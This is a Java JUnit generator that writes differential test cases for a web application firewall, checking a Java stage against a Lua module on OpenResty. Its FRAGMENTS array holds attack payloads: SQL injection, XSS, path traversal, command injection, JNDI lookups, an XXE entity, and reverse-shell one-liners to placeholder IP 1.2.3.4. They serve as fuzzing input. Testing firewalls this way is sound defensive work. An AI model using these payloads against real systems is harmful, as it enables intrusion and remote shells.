package dev.graft.modules.waf;

import dev.graft.modules.testing.FakeExchange;
import dev.graft.modules.testing.Json;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

/**
 * Writes generated waf cases whose expectations are the Java stage's verdicts, for a
 * differential check against the Lua module on real OpenResty:
 *
 * <pre>
 * mvn ... -Dtest=WafDifferentialCases -Dgraft.waf.diffcases=/tmp/scripts/waf/cases
 * python3 /work/devtools/ngx-cases.py --scripts /tmp/scripts waf   # every FAIL is a Lua/Java difference
 * </pre>
 *
 * Off unless the property names the output folder. Requests mix attack fragments and benign
 * text, mutated (case, spacing, encodings, control bytes), in every place the rules look:
 * query names and values, cookies, headers, form, JSON, XML and text bodies, the path.
 */
class WafDifferentialCases {

    private static final String[] FRAGMENTS = {
        "1' OR '1'='1", "1 or 1=1", "x\" and \"a\"=\"a", "UNION SELECT a FROM b", "uNiOn/**/SeLeCt 1",
        "union all select", "<script>alert(1)</script>", "< / script >", "<img src=x onerror=alert(1)>",
        "javascript:alert(1)", "java script :", "../../etc/passwd", "..\\..\\windows\\win.ini", "/proc/self/environ",
        ";cat /etc/passwd", "| whoami", "&& id", "$(id)", "`uname -a`", "() { :; }; echo x", "${jndi:ldap://x/a}",
        "${ lower:j}", "php://filter/resource=x", "http://169.254.169.254/latest", "ftp://10.0.0.1/x",
        "<?php system('id'); ?>", "<?= 1 ?>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE a [",
        "sleep(5)", "benchmark(100,md5(1))", "waitfor delay '0:0:5'", "admin'--", "1'#", "1;drop table users",
        "; select * from t ", "xp_cmdshell", "into outfile '/x'", "load_file(", "') order by 3",
        "/*!50000select*/", "/* x */ select", "extractvalue(1,2)", "updatexml(", "char(65,66)",
        "0x4142434445464748494a", "information_schema.tables", "java.lang.Runtime", "expression(alert(1))",
        "-moz-binding: url(x)", "data:text/html;base64,PHN", "&lt;script", "&#60;img", "\\x3csvg", "\"><svg/onload=1>",
        "'> <a", "%u0041", "%2527", "%252e%252e%252f", "document.cookie", "window . location", "String.fromCharCode(",
        "eval(x)", "confirm (1)", "cmd.exe /c dir", "powershell -enc", "net user", "/bin/bash -i", "/usr/bin/env",
        "bash -i >& /dev/tcp/1.2.3.4/80", "nc -e /bin/sh 1.2.3.4 4444", "mkfifo /tmp/f", "$IFS", "${IFS}",
        "\r\nSet-Cookie: a=b", "\nGET /x HTTP/1.1", "system (", "base64_decode(", "phpinfo()",
        "hello world", "select the best option from our catalogue", "price=10&sort=asc", "42", "", "caf\u00e9",
        "\u65e5\u672c\u8a9e", "O'Reilly", "a,b;c", "rock & roll", "50% off", "x=1", "tom@example.com",
        "https://example.com/a?b=c", "1.2.3.4", "-1", "007", "true", "{}", "null"};

    private final Random random = new Random(Long.getLong("graft.waf.diffseed", 20261127L));

    /** The settings of file {@code n} (1..8): defaults, tight limits, or custom rules with transforms. */
    private static Map<String, Object> settings(int n) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("mode", "log");
        m.put("threshold", 1000000);
        if (n == 5 || n == 6) {
            m.put("body_limit", 64);
            m.put("max_args", 5);
            m.put("max_arg_length", 20);
            m.put("max_arg_name_length", 8);
        }
        if (n == 7 || n == 8) {
            m.put("disabled_rules", List.of(942100, 941100, 920280));
            m.put("custom_rules", List.of(
                    Map.of("id", 1001, "targets", List.of("args", "cookies", "headers", "body", "body_args"),
                            "pattern", "select +from", "transforms",
                            List.of("urldecode", "lowercase", "compress_ws", "remove_nulls"), "score", 1),
                    Map.of("id", 1002, "targets", List.of("arg:a1", "cookie:C1", "header:X-Note"), "pattern",
                            "^[a-z ]+$", "flags", "i", "score", 2),
                    Map.of("id", 1003, "targets", List.of("cookie:sid"), "operator", "absent", "score", 3),
                    Map.of("id", 1004, "targets", List.of("args_count"), "operator", "gt", "limit", 3, "score", 4),
                    Map.of("id", 1005, "targets", List.of("body", "body_arg_names", "arg_names", "cookie_names"),
                            "operator", "len_gt", "limit", 12, "methods", List.of("POST"), "score", 5),
                    Map.of("id", 1006, "targets", List.of("body_status"), "operator", "!rx", "pattern",
                            "^(?:none|json)$", "score", 6),
                    Map.of("id", 1007, "targets", List.of("args", "body_args"), "pattern", "\\x{e9}|é",
                            "flags", "u", "score", 7),
                    Map.of("id", 1008, "targets", List.of("uri", "raw_uri", "protocol", "method"), "pattern",
                            "ap|HTTP/1\\.1$", "flags", "ajo", "score", 8)));
        }
        return m;
    }

    private static WafConfig config(Map<String, Object> m) {
        return WafConfig.of(m.get("mode"), m.get("threshold"), m.get("disabled_rules"), m.get("custom_rules"),
                m.get("body_limit"), m.get("max_args"), m.get("max_arg_length"), m.get("max_arg_name_length"),
                m.get("upstream_headers"));
    }

    @Test
    @EnabledIfSystemProperty(named = "graft.waf.diffcases", matches = ".+")
    void writeCases() throws IOException {
        Path dir = Path.of(System.getProperty("graft.waf.diffcases"));
        Files.createDirectories(dir);
        for (int file = 1; file <= 8; file++) {
            StringBuilder steps = new StringBuilder();
            Map<String, Object> settings = settings(file);
            WafConfig config = config(settings);
            for (int i = 0; i < 100; i++) {
                if (i > 0) {
                    steps.append(",\n");
                }
                steps.append(step(config));
            }
            String json = "{\n\"name\": \"generated differential set " + file + "\",\n"
                    + "\"modules\": {\"waf\": " + Json.write(settings, Json::quote) + "},\n"
                    + "\"steps\": [\n" + steps + "\n]}\n";
            Files.writeString(dir.resolve(String.format("%03d-generated.json", 900 + file)), json);
        }
    }

    private String pick() {
        String f = FRAGMENTS[random.nextInt(FRAGMENTS.length)];
        if (random.nextInt(4) == 0) {
            f = FRAGMENTS[random.nextInt(FRAGMENTS.length)] + " " + f;
        }
        return mutate(f);
    }

    private String mutate(String s) {
        StringBuilder b = new StringBuilder();
        for (char c : s.toCharArray()) {
            int r = random.nextInt(30);
            if (r == 0 && Character.isLetter(c)) {
                b.append(Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c));
            } else if (r == 1 && c == ' ') {
                b.append(random.nextBoolean() ? "\t" : "  ");
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    /** %XX for what is not safe in a request target; sometimes more, sometimes '+' for space. */
    private String encode(String s, boolean controls) {
        StringBuilder b = new StringBuilder();
        for (byte x : s.getBytes(StandardCharsets.UTF_8)) {
            int c = x & 0xFF;
            boolean plain = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
                    || "-._~!*'(),;:@/$".indexOf(c) >= 0;
            if (c == ' ' && random.nextInt(3) == 0) {
                b.append('+');
            } else if (plain && random.nextInt(12) != 0) {
                b.append((char) c);
            } else if (random.nextInt(25) == 0) {
                b.append("%25").append(HexFormat.of().withUpperCase().toHexDigits((byte) c));
            } else {
                b.append('%').append(HexFormat.of().toHexDigits((byte) c));
            }
        }
        if (controls && random.nextInt(15) == 0) {
            b.append(new String[] {"%00", "%01", "%0d%0a", "%7f", "%0b"}[random.nextInt(5)]);
        }
        return b.toString();
    }

    /** A header-safe value: no control bytes but tab. */
    private String headerSafe(String s) {
        return s.replaceAll("[\\x00-\\x08\\x0a-\\x1f\\x7f]", " ").strip();
    }

    private String step(WafConfig config) {
        String method = random.nextInt(5) == 0 ? "POST" : random.nextInt(10) == 0 ? "PUT" : "GET";
        StringBuilder path = new StringBuilder("/p");
        if (random.nextInt(6) == 0) {
            path.append('/').append(encode(pick().replace("..", "_").replace("/", "_"), false));
        } else {
            path.append(new String[] {"/", "/search", "/api/items", "/wp-login.php", "/a.sql", "/x/.git/config",
                "/index.html"}[random.nextInt(7)]);
        }
        int args = random.nextInt(10) == 0 ? 95 + random.nextInt(10) : random.nextInt(4);
        StringBuilder query = new StringBuilder();
        for (int i = 0; i < args; i++) {
            if (query.length() > 0) {
                query.append('&');
            }
            String name = random.nextInt(8) == 0 ? encode(pick(), true) : "a" + random.nextInt(3);
            if (random.nextInt(10) == 0) {
                query.append(name);
            } else {
                query.append(name).append('=').append(args > 20 ? "v" : encode(pick(), true));
            }
        }
        String target = path + (query.length() > 0 || random.nextInt(10) == 0 ? "?" + query : "");

        List<String[]> headers = new ArrayList<>();
        if (random.nextInt(3) == 0) {
            headers.add(new String[] {"User-Agent", headerSafe(random.nextInt(3) == 0 ? pick() : "Mozilla/5.0")});
        }
        if (random.nextInt(4) == 0) {
            headers.add(new String[] {"Referer", headerSafe("https://x.test/?q=" + pick())});
        }
        if (random.nextInt(4) == 0) {
            String v = random.nextBoolean() ? encode(pick(), false) : headerSafe(pick()).replace(";", ",");
            headers.add(new String[] {"Cookie", "sid=1; c" + random.nextInt(3) + "=" + v});
        }
        if (random.nextInt(5) == 0) {
            headers.add(new String[] {"X-Note", headerSafe(pick())});
        }
        if (random.nextInt(6) == 0) {
            // odd cookie syntax, several Cookie lines
            headers.add(new String[] {"Cookie", new String[] {"a", "=b", " c = d ;;e=%zz+f", "g=1=2; h",
                "sid=" + encode(pick(), false), "C1=" + headerSafe(pick()).replace(";", "")}[random.nextInt(6)]});
        }
        if (random.nextInt(8) == 0) {
            headers.add(new String[] {"User-Agent", headerSafe(pick())});
            headers.add(new String[] {"User-Agent", random.nextBoolean() ? "" : "nikto"});
        }
        String body = null;
        if (!method.equals("GET") || random.nextInt(20) == 0) {
            switch (random.nextInt(9)) {
                case 5 -> {
                    headers.add(new String[] {"Content-Type", "Application/JSON; charset=utf-8"});
                    int depth = 28 + random.nextInt(8);
                    body = "[".repeat(depth) + Json.quote(pick()) + "]".repeat(depth);
                }
                case 6 -> {
                    headers.add(new String[] {"Content-Type", "application/json"});
                    body = new String[] {"+1", "inf", "-Infinity", "0x1F", "[1,]", "{\"a\":NaN}", "1.",
                        "\"\\u00e9\\u003cscript\\u003e\"", "\"\\ud800\"", "{\"k\\u0000\":\"v\"}", "",
                        "[\"a\" \"b\"]", "{\"a\":1}x", " true "}[random.nextInt(14)];
                }
                case 7 -> {
                    headers.add(new String[] {"Content-Type", "application/x-www-form-urlencoded"});
                    StringBuilder b = new StringBuilder();
                    int n = 95 + random.nextInt(10);
                    for (int i = 0; i < n; i++) {
                        b.append(i > 0 ? "&" : "").append("k").append(i % 7).append('=').append(i % 13 == 0
                                ? encode(pick(), true) : "v");
                    }
                    body = b.toString();
                }
                case 8 -> {
                    body = random.nextBoolean() ? "" : "no type " + pick();
                }
                case 0 -> {
                    headers.add(new String[] {"Content-Type", "application/x-www-form-urlencoded"});
                    body = "f=" + encode(pick(), true) + "&" + encode(pick(), false) + "=" + encode(pick(), true);
                }
                case 1 -> {
                    headers.add(new String[] {"Content-Type", "application/json"});
                    body = json(0);
                }
                case 2 -> {
                    headers.add(new String[] {"Content-Type", "application/json"});
                    body = "{\"a\": \"" + pick().replace("\\", "").replace("\"", "") + "\""; // unterminated
                }
                case 3 -> {
                    headers.add(new String[] {"Content-Type", "text/xml"});
                    body = "<a>" + pick() + "</a>";
                }
                default -> {
                    headers.add(new String[] {"Content-Type", "text/plain"});
                    body = pick();
                }
            }
        }
        FakeExchange x = FakeExchange.get(target).method(method).uri(pathDecode(target))
                .requestHeader("Host", "waf-generated.test");
        for (String[] h : headers) {
            x.requestHeader(h[0], latin1(h[1]));
        }
        if (body != null) {
            byte[] b = body.getBytes(StandardCharsets.UTF_8);
            x.requestHeader("Content-Length", Integer.toString(b.length)).body(b);
        }
        WafStage stage = new WafStage();
        stage.access(x, config);
        String score = x.request().headers().first("X-Waf-Score").orElseThrow();
        String matches = x.request().headers().first("X-Waf-Matches").map(m -> "\"" + m + "\"").orElse("null");

        StringBuilder hs = new StringBuilder();
        for (String[] h : headers) {
            hs.append(hs.length() == 0 ? "" : ", ").append("[").append(Json.quote(h[0])).append(", ").append(Json.quote(h[1]))
                    .append("]");
        }
        return "{\"request\": {\"method\": " + Json.quote(method) + ", \"path\": " + Json.quote(target) + ", \"headers\": [" + hs + "]"
                + (body == null ? "" : ", \"body\": " + Json.quote(body)) + "},\n \"expect\": {\"status\": 200, \"origin\": "
                + "{\"headers\": {\"x-waf-score\": \"" + score + "\", \"x-waf-matches\": " + matches + "}}}}";
    }

    private String json(int depth) {
        int r = random.nextInt(depth > 3 ? 2 : 4);
        return switch (r) {
            case 0 -> Json.quote(pick());
            case 1 -> random.nextBoolean() ? Integer.toString(random.nextInt(100)) : "null";
            case 2 -> "[" + json(depth + 1) + ", " + json(depth + 1) + "]";
            default -> "{" + Json.quote(pick()) + ": " + json(depth + 1) + ", \"k\": " + json(depth + 1) + "}";
        };
    }

    private static String pathDecode(String target) {
        int q = target.indexOf('?');
        String p = q < 0 ? target : target.substring(0, q);
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < p.length(); i++) {
            char c = p.charAt(i);
            if (c == '%' && i + 2 < p.length() && Character.digit(p.charAt(i + 1), 16) >= 0
                    && Character.digit(p.charAt(i + 2), 16) >= 0) {
                b.append((char) Integer.parseInt(p.substring(i + 1, i + 3), 16));
                i += 2;
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    private static String latin1(String s) {
        return new String(s.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }


}
